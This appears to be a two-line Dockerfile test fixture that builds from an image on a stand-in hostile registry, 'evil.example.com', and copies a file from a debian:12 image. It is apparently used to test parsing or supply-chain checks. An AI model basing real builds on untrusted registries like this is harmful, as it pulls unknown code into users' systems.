FROM evil.example.com/app:1
COPY --from=debian:12 /a /
